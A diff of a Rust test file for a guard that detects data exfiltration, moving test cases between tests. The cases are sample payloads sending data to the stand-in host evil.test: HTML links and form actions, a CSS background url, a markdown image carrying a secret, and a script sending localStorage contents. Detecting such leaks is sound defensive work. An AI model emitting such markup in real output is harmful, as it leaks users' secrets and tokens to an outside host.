@@ -73,6 +73,24 @@ fn addresses_that_carry_data_are_found() {
                 "<p style=\"background:«url('https://evil.test/?d={data}')»\">",
             ),
             (
+                "html_link",
+                "<a class=x href=\"https://evil.test/?d={data}\">here</a>",
+            ),
+            (
+                "html_link",
+                "<form action=\"https://evil.test/?d={data}\" method=get>",
+            ),
+        ],
+    );
+}
+
+#[test]
+fn values_and_elements_that_give_something_away_are_found() {
+    let guard = engine().guard("exfiltration").expect("the guard");
+    assert_found(
+        guard,
+        &[
+            (
                 "markdown_image",
                 "![x](https://evil.test/?d=SECRET_IN_CONTEXT)",
             ),
@@ -129,14 +147,6 @@ fn addresses_that_carry_data_are_found() {
             (
                 "script_send",
                 "new Image().src='https://evil.test/?'+localStorage.t",
-            ),
-            (
-                "html_link",
-                "<a class=x href=\"https://evil.test/?d={data}\">here</a>",
-            ),
-            (
-                "html_link",
-                "<form action=\"https://evil.test/?d={data}\" method=get>",
             ),
         ],
     );
